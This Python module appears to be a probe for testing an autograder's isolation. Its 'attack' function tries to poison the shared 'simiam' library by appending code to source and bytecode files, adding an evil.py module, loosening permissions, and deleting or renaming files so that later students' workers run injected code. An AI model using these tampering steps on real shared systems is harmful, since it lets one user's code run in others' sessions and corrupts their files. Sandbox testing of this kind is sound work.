"""Attack: change the worker's library (the course's simiam and grader.inside, with their bytecode) so
that the next student's worker runs this student's code: overwrite a source or a .pyc, add a module or a
.pyc, remove, rename or chmod a file, touch it."""
import os

import simiam


def uni_to_diff(robot, v, w):
    R = robot.wheel_radius
    L = robot.wheel_base_length
    return (2 * v + w * L) / (2 * R), (2 * v - w * L) / (2 * R)


def diff_to_uni(robot, vel_r, vel_l):
    R = robot.wheel_radius
    L = robot.wheel_base_length
    return R / 2 * (vel_r + vel_l), R / L * (vel_r - vel_l)


def _try(what, results, fn, *args):
    try:
        fn(*args)
        results[what] = "done"
    except OSError as exc:
        results[what] = os.strerror(exc.errno) if exc.errno else str(exc)


def _append(path):
    with open(path, "ab") as f:
        f.write(b"\nprint('poisoned')\n")


def _create(path):
    with open(path, "xb") as f:
        f.write(b"print('poisoned')\n")


def attack(**args):
    """{"library": the library folder, "results": {attempt: "done" or the error's text}}."""
    library = os.path.dirname(os.path.dirname(os.path.abspath(simiam.__file__)))
    control = os.path.join(library, "simiam", "control")
    cache = os.path.join(control, "__pycache__")
    pycs = sorted(n for n in os.listdir(cache) if n.startswith("supervisor.")) if os.path.isdir(cache) else []
    pyc = os.path.join(cache, pycs[0] if pycs else "supervisor.cpython-311.pyc")
    source = os.path.join(control, "supervisor.py")
    results = {}
    _try("append to a source", results, _append, source)
    _try("append to a pyc", results, _append, pyc)
    _try("add a module", results, _create, os.path.join(control, "evil.py"))
    _try("add a pyc", results, _create, os.path.join(cache, "evil.cpython-311.pyc"))
    _try("chmod a pyc", results, os.chmod, pyc, 0o666)
    _try("chmod the folder", results, os.chmod, cache, 0o777)
    _try("remove a pyc", results, os.unlink, pyc)
    _try("rename a source", results, os.rename, source, source + ".bak")
    _try("touch a source", results, os.utime, source, (0, 0))
    return {"library": library, "results": results}


def marker(module, name):
    """The value of `name` in the trusted module `module` as the worker imported it (None if absent)."""
    import importlib

    return getattr(importlib.import_module(module), name, None)
